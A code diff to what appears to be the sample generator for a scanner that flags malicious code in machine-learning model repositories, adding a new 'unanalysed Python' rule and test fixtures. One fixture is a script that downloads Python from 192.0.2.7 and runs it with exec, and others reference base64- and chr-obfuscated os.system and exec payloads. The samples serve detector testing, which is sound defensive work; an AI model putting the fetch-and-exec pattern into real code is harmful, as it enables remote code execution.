@@ -26,6 +26,7 @@ RULES = {
     "HFR002": ("hf-code-from-other-repo", SUSPICIOUS),
     "HFR003": ("hf-remote-code-malicious", MALICIOUS),
     "HFR004": ("python-script-malicious-behaviour", SUSPICIOUS),
+    "HFR005": ("python-unanalysed", SUSPICIOUS),
     "TPL001": ("template-sandbox-escape", MALICIOUS),
     "TPL002": ("template-unparseable", SUSPICIOUS),
     "TPL003": ("template-suspicious-construct", SUSPICIOUS),
@@ -312,9 +313,8 @@ CHR_EXEC_MODELING = TINY_MODELING + (
     "97, 109, 112, 108, 101, 39, 41]))\n")
 
 
-# Remote code the Python analyser (cargo feature `python`, off by default for now) judges
-# malicious; without it these are HFR001 only, so they are not generated yet.
-PYTHON_ANALYSER_SAMPLES = () if True else (
+# Remote code the Python analyser (cargo feature `python`, on by default) judges malicious.
+PYTHON_ANALYSER_SAMPLES = (
     ("malicious/hf_remote_code_shell", MALICIOUS, SHELLING_MODELING, (("HFR003", "os.system"),),
      "remote code whose model __init__ runs os.system on a base64-decoded command"),
     ("malicious/hf_remote_code_chr_exec", MALICIOUS, CHR_EXEC_MODELING, (("HFR003", "exec"),),
@@ -322,7 +322,72 @@ PYTHON_ANALYSER_SAMPLES = () if True else (
 )
 
 
+# A script beside a model (nothing loads it) that downloads code and runs it.
+DOWNLOAD_AND_RUN_SCRIPT = """import urllib.request
+
+import torch
+
+
+def main():
+    model = torch.load("model.bin", weights_only=True)
+    code = urllib.request.urlopen("http://192.0.2.7/update.py").read()
+    exec(code)
+    print(model)
+
+
+if __name__ == "__main__":
+    main()
+"""
+
+# An ordinary training script: reads data, trains, saves.
+TRAIN_SCRIPT = """import argparse
+import json
+import os
+
+import torch
+from torch import nn
+
+
+def main():
+    parser = argparse.ArgumentParser()
+    parser.add_argument("--epochs", type=int, default=3)
+    parser.add_argument("--out", default="checkpoints")
+    args = parser.parse_args()
+    os.makedirs(args.out, exist_ok=True)
+    model = nn.Linear(16, 2)
+    optimiser = torch.optim.SGD(model.parameters(), lr=0.1)
+    for epoch in range(args.epochs):
+        x = torch.randn(32, 16)
+        loss = model(x).pow(2).mean()
+        optimiser.zero_grad()
+        loss.backward()
+        optimiser.step()
+        print(json.dumps({"epoch": epoch, "loss": loss.item()}))
+    torch.save(model.state_dict(), os.path.join(args.out, "model.pt"))
+
+
+if __name__ == "__main__":
+    main()
+"""
+
+# Python 2: CPython 3 refuses it, Python 2 runs it; what it does is not analysed.
+PYTHON2_SCRIPT = """import os
+import sys
+
+print "converting", sys.argv[1]
+exec "import os; os.system('echo quarantine-sample')"
+"""
+
+
 def hf_samples(register) -> None:
+    register("benign/train_model.py", CLEAN, desc="an ordinary training script (argparse, torch, json, saves a state dict)",
+             build=lambda: TRAIN_SCRIPT.encode())
+    register("malicious/download_and_run_script.py", SUSPICIOUS, ("HFR004", "urlopen"),
+             desc="a script beside a model that fetches Python from 192.0.2.7 and execs it (not run by loading: capped at suspicious)",
+             build=lambda: DOWNLOAD_AND_RUN_SCRIPT.encode())
+    register("malicious/python2_script.py", SUSPICIOUS, ("HFR005", "does not parse"),
+             desc="a Python 2 script (print and exec statements): Python 3 cannot parse it, so it is reported as not analysed",
+             build=lambda: PYTHON2_SCRIPT.encode())
     auto_map = {"AutoConfig": "configuration_tiny.TinyConfig", "AutoModel": "modeling_tiny.TinyModel"}
     for folder, expected, modeling, findings, desc in (
         ("malicious/hf_remote_code_ordinary", SUSPICIOUS, TINY_MODELING, (("HFR001", "modeling_tiny.TinyModel"),),
